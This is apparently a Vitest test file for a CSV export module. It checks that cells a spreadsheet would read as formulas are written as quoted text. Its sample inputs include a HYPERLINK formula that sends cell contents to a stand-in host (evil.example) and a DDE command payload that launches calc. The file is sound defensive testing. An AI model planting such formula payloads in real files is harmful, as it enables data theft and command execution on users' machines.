import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, exportResults } from '../../src/wire/exports.js';
import type { ResultLine } from '../../src/wire/views.js';

/*
 * CSV injection: a cell a spreadsheet would read as a formula is written as text
 * (a leading single quote, quoted), as OWASP advises. Strings only: numbers abp
 * writes as numbers are left as they are.
 */

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

describe('CSV cells that would be formulas', () => {
  it.each(FORMULAS)('%j is quoted text with a leading single quote', (value) => {
    const cell = csvCell(value);
    expect(cell.startsWith('"\'')).toBe(true);
    // Read back as a spreadsheet would read the file: the cell is the value behind a quote.
    expect(parse(`${cell}\n`, { relax_quotes: false })[0]).toEqual([`'${value}`]);
  });

  it('numbers are written as numbers, even negative ones; other text as it was', () => {
    expect(csvRow([-0.5, -3, 0, 12.25, true, null, undefined])).toBe('-0.5,-3,0,12.25,true,,');
    // The same characters as text are neutralised: only the number is a number.
    expect(csvRow([-1, '-1', -0.5, '-0.5'])).toBe(`-1,"'-1",-0.5,"'-0.5"`);
    expect(csvRow(['plain', 'a=b', ' =not first', "'quoted", 'x,y', 'say "hi"', 'two\nlines'])).toBe(`plain,a=b, =not first,'quoted,"x,y","say ""hi""","two\nlines"`);
    // A list or an object is its JSON, which starts with [ or {.
    expect(csvRow([[-1], { k: '=1' }])).toBe('[-1],"{""k"":""=1""}"');
  });

  it('an export neutralises item ids, outputs, errors and structured fields, and keeps numbers', async () => {
    const line = (unit_id: number, item_id: string, extra: Partial<ResultLine>): ResultLine => ({
      unit_id, item_id, status: 'SUCCEEDED', attempt: 1, payload: { id: item_id }, output: null, structured_output: null, error: null, cost_usd: 0, duration_ms: 5, ...extra,
    });
    const lines = [
      line(1, '=HYPERLINK("http://evil.example","x")', { output: '+1+1', structured_output: { total: -4, note: '@SUM(1)' } }),
      line(2, '-1+1', { status: 'FAILED', error: '=2*3', cost_usd: 0.25 }),
      line(3, '\tx', { output: '\r=1', structured_output: { total: 7, note: 'fine' } }),
    ];
    let text = '';
    for await (const chunk of exportResults({} as never, { lines: async function* () {
      yield* lines;
    } }, 'csv')) text += chunk;
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.item_id)).toEqual(['\'=HYPERLINK("http://evil.example","x")', "'-1+1", "'\tx"]);
    expect(rows.map((r) => r.output)).toEqual(["'+1+1", '', "'\r=1"]);
    expect(rows[1]!.error).toBe("'=2*3");
    expect(rows.map((r) => r['output.note'])).toEqual(["'@SUM(1)", '', 'fine']);
    // Numbers stay numbers.
    expect(rows.map((r) => r['output.total'])).toEqual(['-4', '', '7']);
    expect(rows[1]!.cost_usd).toBe('0.25');
    // No cell of the file starts with a formula character.
    for (const r of parse(text) as string[][]) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
